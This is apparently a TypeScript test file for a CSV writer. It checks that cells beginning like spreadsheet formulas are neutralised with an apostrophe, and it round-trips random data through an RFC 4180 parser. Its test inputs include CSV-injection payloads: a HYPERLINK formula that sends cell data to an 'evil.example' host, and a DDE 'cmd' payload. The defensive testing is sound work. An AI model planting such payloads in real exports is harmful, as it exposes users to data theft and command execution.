import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type csvCell, csvLine } from './write';

/** Reads a file as RFC 4180 has it. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] ?? '';
    if (isQuoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i += 1;
    } else if (c === '"') isQuoted = !isQuoted;
    else if (!isQuoted && c === ',') {
      row.push(cell);
      cell = '';
    } else if (!isQuoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  return rows;
}

const cell = (value: Parameters<typeof csvCell>[0]): string => parse(csvLine([value]))[0]?.[0] ?? '';

test('plain values are what they are', () => {
  expect(csvLine(['a', 7, -1.5, null, undefined, true, new Date(0)])).toBe(
    '"a","7","-1.5","","","true","1970-01-01T00:00:00.000Z"\r\n',
  );
});

const formulas = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "=cmd|'/c calc'!A0",
  ' =1+1',
  '\t=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '\uFF1D1+1',
  '-',
  '-1+cmd',
  '--1',
];
for (const text of formulas) {
  test(`${JSON.stringify(text)} is text, not a formula`, () => expect(cell(text)).toBe(`'${text}`));
}

test('numbers and words with signs inside stay as they are', () => {
  for (const text of ['-5', '-5.25', 'a=b', '1+1', 'x@y.example', 'a-b', '']) expect(cell(text)).toBe(text);
});

test('whatever is written is read back the same, but for the apostrophe, and no cell begins like a formula', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1 }), { minLength: 1 }),
      (rows) => {
        const read = parse(rows.map(csvLine).join(''));
        expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        rows.flat().forEach((text, i) => {
          const back = read.flat()[i] ?? '';
          expect([text, `'${text}`]).toContain(back);
          expect(/^-?\d+(\.\d+)?$/.test(back) || !/^[=+\-@\t\r\n]/.test(back)).toBe(true);
        });
      },
    ),
  );
});
